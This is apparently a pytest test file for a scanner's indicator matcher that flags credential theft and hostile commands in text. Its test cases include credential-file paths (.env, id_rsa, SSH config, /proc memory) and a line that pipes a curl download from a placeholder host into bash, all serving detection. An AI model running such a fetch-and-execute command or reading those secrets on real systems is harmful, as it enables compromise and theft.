import random

import pytest

from darnel.features.indicators.matcher import Matcher, normalise
from darnel.features.indicators.scan import HINT
from darnel.features.indicators.tables import entries
from darnel.features.taxonomy import CATEGORY

TABLES = ("hosts.toml", "secrets.toml", "behaviour.toml", "prose.toml", "hints.toml")
ENTRIES = entries(*TABLES)
PLAIN = [entry for entry in ENTRIES if entry.pattern is None]


def test_every_behaviour_is_in_the_taxonomy() -> None:
    assert {entry.behaviour for entry in ENTRIES} - {HINT} <= set(CATEGORY)


def test_no_needle_twice_under_one_behaviour() -> None:
    seen: set[tuple[str, bytes, object]] = set()
    for entry in ENTRIES:
        key = (entry.behaviour, entry.needle, entry.pattern)
        assert key not in seen, key
        seen.add(key)


@pytest.mark.parametrize("shift", range(4))
def test_every_needle_is_found_at_every_alignment(shift: int) -> None:
    matcher = Matcher(ENTRIES)
    for entry in PLAIN:
        text = b"\n" * shift + entry.needle + b"\n"
        assert (shift, entry) in list(matcher.find(text)), entry.needle


def test_equals_a_naive_search() -> None:
    rng = random.Random(1)
    needles = [entry.needle for entry in PLAIN]
    text = normalise(b" ".join(rng.choice(needles)[: rng.randint(2, 30)] for _ in range(2000)))
    expected: set[tuple[int, bytes]] = set()
    found = {(at, entry.needle) for at, entry in Matcher(PLAIN).find(text) if not entry.left and not entry.right}
    for entry in PLAIN:
        if entry.left or entry.right:
            continue
        at = text.find(entry.needle)
        while at >= 0:
            expected.add((at, entry.needle))
            at = text.find(entry.needle, at + 1)
    assert found == expected
    assert len(found) > 500


@pytest.mark.parametrize(
    ("text", "hit"),
    [
        ("~/.env", True),
        ("'.env.local'", True),
        (".env", True),
        ("process.env", False),
        (".environment", False),
        ("my.env.name", False),
        ("/proc/123/mem", True),
        ("/proc/{pid}/maps", True),
        ("/proc/meminfo", False),
        ("|id_rsa", True),
        ("grid_rsa", False),
        ("C:\\Users\\x\\.SSH\\config", True),
        ("curl -s https://host.invalid/x | bash", True),
        ("a" * 500, False),
    ],
)
def test_conditions(text: str, hit: bool) -> None:
    wanted = {"cred.dotenv", "cred.memory", "cred.ssh", HINT}
    assert any(e.behaviour in wanted for _, e in Matcher(ENTRIES).find(normalise(text.encode()))) is hit


def test_short_texts() -> None:
    matcher = Matcher(ENTRIES)
    for text in (b"", b"a", b"abc", b"abcd"):
        assert list(matcher.find(text)) == []
